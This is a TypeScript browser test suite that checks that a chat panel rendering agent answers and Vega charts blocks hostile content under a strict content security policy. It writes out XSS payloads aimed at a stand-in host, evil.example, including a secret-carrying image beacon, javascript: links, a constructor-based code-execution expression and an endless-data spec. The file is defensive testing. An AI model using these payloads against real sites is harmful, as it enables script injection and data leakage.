import type { Browser } from 'playwright';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createScriptedAgent, type ScriptStep } from '../../src/local-service.js';
import { elementPage } from './support/elementPage.js';
import { barSpec, sqlSteps } from './support/sqlSteps.js';
import { type Site, startSite } from './support/startSite.js';
import { launchBrowser, type Visitor, visit, waitForState } from './support/visitor.js';

const outside = 'https://evil.example';

const hostileMarkdown = `
![pixel](${outside}/pixel.png?secret=1) ![][ref] <img src="${outside}/raw.png" onerror="window.hacked = true">
<script>window.hacked = true</script><iframe src="${outside}/frame"></iframe><style>@import "${outside}/style.css";</style>
<svg onload="window.hacked = true"><image href="${outside}/svg.png" /></svg>

[run](javascript:window.hacked=true) [data](data:text/html,<script>window.hacked=true</script>) [fine](https://fine.example/page) <${outside}/auto>

[ref]: ${outside}/reference.png "a reference"

| a | b |
|-|-|
| ![cell](${outside}/cell.png) | [x](vbscript:x) |
`;

const hostileSpecs: Readonly<Record<string, unknown>> = {
  'data address': { ...barSpec, data: { url: `${outside}/data.json` } },
  'nested data address': { layer: [{ ...barSpec, data: { url: `${outside}/layer.json` } }] },
  'lookup address': {
    ...barSpec,
    transform: [{ lookup: 'region', from: { data: { url: `${outside}/lookup.csv` }, key: 'region', fields: ['x'] } }],
  },
  'image mark': { ...barSpec, mark: { type: 'image', url: `${outside}/mark.png` } },
  'image by channel': { ...barSpec, mark: 'image', encoding: { ...barSpec.encoding, url: { value: `${outside}/channel.png` } } },
  'link channel': { ...barSpec, encoding: { ...barSpec.encoding, href: { value: 'javascript:window.hacked=true' } } },
  'options in usermeta': {
    ...barSpec,
    usermeta: { embedOptions: { ast: false, actions: true, config: `${outside}/config.json`, patch: `${outside}/patch.json` } },
  },
  'code in an expression': {
    ...barSpec,
    transform: [{ calculate: "datum.constructor.constructor('window.hacked=true')()", as: 'x' }],
  },
  'geographic data address': { mark: 'geoshape', data: { url: `${outside}/map.json`, format: { type: 'topojson', feature: 'x' } } },
  'endless sequence': { ...barSpec, data: { sequence: { start: 0, stop: 1e12 } } },
  'no json': '{"mark": "bar", ',
  'no object': '[[[[1]]]]',
};

const policy = "default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self'; img-src 'self' data:; base-uri 'none'";

let site: Site;
let browser: Browser;
let visitor: Visitor;

beforeAll(async () => {
  const agent = createScriptedAgent(({ text }) => script(text));
  [site, browser] = await Promise.all([
    startSite({ service: { agent }, pages: { '/': elementPage() }, headers: { 'content-security-policy': policy } }),
    launchBrowser(),
  ]);
});

afterAll(async () => {
  await browser.close();
  await site.close();
});

beforeEach(async () => {
  visitor = await visit(browser, site.origin);
});

afterEach(async () => {
  const hasRunCode = await visitor.page.evaluate(() => 'hacked' in window);
  const violations = await visitor.violations();
  await visitor.leave();
  expect({ hasRunCode, violations, outside: visitor.outsideRequests, faults: visitor.faults }).toEqual({
    hasRunCode: false,
    violations: [],
    outside: [],
    faults: [],
  });
});

describe('under a strict content security policy', () => {
  it('draws panel and chart without a violation', async () => {
    await visitor.ask('chart');
    const chart = visitor.turns.first().locator('[data-slot="chart"]');
    await waitForState(chart, 'ready');
    expect(await chart.locator('svg, canvas').count()).toBeGreaterThan(0);
    expect(await chart.innerText()).not.toContain('could not');
  });

  it('is styled', async () => {
    const background = await visitor.panel
      .getByRole('button', { name: 'Send' })
      .evaluate((button) => [getComputedStyle(button).borderTopStyle, getComputedStyle(button).cursor]);
    expect(background).not.toContain('outset');
  });
});

describe('hostile answers', () => {
  it('load nothing from elsewhere and run nothing', async () => {
    const { turns, ask } = visitor;
    await ask('markdown');
    await waitForState(turns.first(), 'done');
    const answer = turns.first().locator('[data-slot="answer"]');
    expect(await answer.locator('img, script, iframe, style, svg image').count()).toBe(0);
    const links = await answer.locator('a').evaluateAll((all) => all.map((link) => link.getAttribute('href')));
    expect(links).toContain('https://fine.example/page');
    expect(links.filter((href) => !/^https?:/.test(href ?? ''))).toEqual([]);
    expect(await answer.locator('a').first().getAttribute('rel')).toBe('noopener noreferrer nofollow');
  });

  it.each(Object.keys(hostileSpecs))('with a chart of %s show it without the harm, or the table', async (name) => {
    const { turns, ask } = visitor;
    await ask(name);
    await waitForState(turns.first(), 'done');
    const result = turns.first().locator('[data-slot="sql-result"]');
    const drawn = result.locator('[data-slot="chart"][data-state="ready"]');
    const table = result.locator('[data-slot="result-table"]');
    await drawn.or(table).first().waitFor();
    expect(await result.locator('image, a[href^="javascript"]').count()).toBe(0);
  });
});

function script(question: string): readonly ScriptStep[] {
  if (question === 'markdown') return [{ kind: 'answer', text: hostileMarkdown }];
  if (question === 'chart') return sqlSteps({ vegaSpec: barSpec });
  return sqlSteps({ vegaSpec: hostileSpecs[question], answer: hostileMarkdown });
}
